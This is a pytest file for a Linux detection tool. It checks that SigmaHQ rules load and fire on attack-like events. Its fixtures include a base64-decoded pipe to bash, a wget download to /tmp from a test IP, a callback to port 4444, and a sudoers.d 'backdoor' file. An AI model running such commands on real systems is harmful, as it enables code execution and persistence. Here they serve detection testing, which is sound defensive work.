"""check_rules over the test fixtures and over the real SigmaHQ Linux rules."""

from __future__ import annotations

import pytest

from provarmor.detection.sigma.checker import check_rules, format_report
from provarmor.detection.sigma.detector import SigmaDetector
from provarmor.model.actions import Action
from provarmor.testing.factories import make_event


def test_fixture_directory_report(test_rules):
    report = check_rules(test_rules)
    assert report.files == 14
    assert len(report.loaded) == 10
    assert "sshd" in {rule.log_source for rule in report.loaded}  # host logs (journal, syslog)
    assert report.unsupported == []
    assert sorted(str(e.location).rsplit("/", 1)[1] for e in report.errors) == [
        "bad_yaml.yml:8",
        "condition_missing_selection.yml:detection.condition",
        "good_then_bad.yml#2:level",
        "missing_detection.yml:detection",
        "unknown_modifier.yml:detection.selection.CommandLine|containz",
    ]
    lines = format_report(report)
    assert lines[0].startswith("files: 14, rules: 15, loaded: 10 (66.7%)")


def test_missing_directory_is_an_error_not_an_exception(tmp_path):
    report = check_rules(tmp_path / "nope")
    assert report.total == 1
    assert report.errors[0].location == str(tmp_path / "nope")


@pytest.mark.shared
def test_sigmahq_linux_rules_load(shared_sigma):
    report = check_rules(shared_sigma)
    assert report.total == 248
    assert report.loaded_fraction == 1.0  # the sshd, sudo, cron, syslog ... rules included
    assert not report.errors
    assert report.unsupported == []
    assert not report.warnings, report.warnings  # every ATT&CK tag resolves, v19 ids included


@pytest.mark.shared
def test_sigmahq_rules_fire_on_attacks_and_stay_silent_on_benign(shared_sigma, exec_of):
    detector, _ = SigmaDetector.from_paths([shared_sigma])

    def titles(event):
        return {alert.rule_title for alert in detector.on_event(event)}

    pipe = exec_of("bash -c echo ZWNobyBoaQ== | base64 -d | bash", exe="/usr/bin/bash")
    assert "Linux Base64 Encoded Pipe to Shell" in titles(pipe)
    decode = exec_of("base64 -d /tmp/payload.b64", exe="/usr/bin/base64")
    assert "Decode Base64 Encoded Text" in titles(decode)
    wget = exec_of("wget http://198.51.100.7/x -O /tmp/x", exe="/usr/bin/wget")
    assert "Download File To Potentially Suspicious Directory Via Wget" in titles(wget)
    callback = make_event(Action.CONNECT, exe="/tmp/.x/agent", ip="203.0.113.9", port=4444)
    assert "Potentially Suspicious Malware Callback Communication - Linux" in titles(callback)
    sudoers = make_event(Action.CREATE, exe="/usr/bin/tee", path="/etc/sudoers.d/99-backdoor")
    assert "Persistence Via Sudoers.d Files" in titles(sudoers)
    chmod = exec_of("chmod 777 /tmp/x", exe="/usr/bin/chmod", auditd={"type": "SYSCALL"})
    assert "Suspicious Commands Linux" in titles(chmod)

    for benign in (
        exec_of("ls -la /home/user", exe="/usr/bin/ls"),
        exec_of("git status", exe="/usr/bin/git"),
        exec_of("base64 /etc/hostname", exe="/usr/bin/base64"),
        exec_of("wget https://example.org/file.tar.gz", exe="/usr/bin/wget"),
        make_event(Action.CONNECT, exe="/usr/bin/curl", ip="10.1.2.3", port=4444),
        make_event(Action.CONNECT, exe="/usr/bin/curl", ip="203.0.113.9", port=443),
        make_event(Action.WRITE, exe="/usr/bin/vim", path="/home/user/notes.txt"),
        make_event(Action.OPEN, exe="/usr/bin/cat", path="/etc/sudoers.d/README"),
    ):
        assert titles(benign) == set(), benign
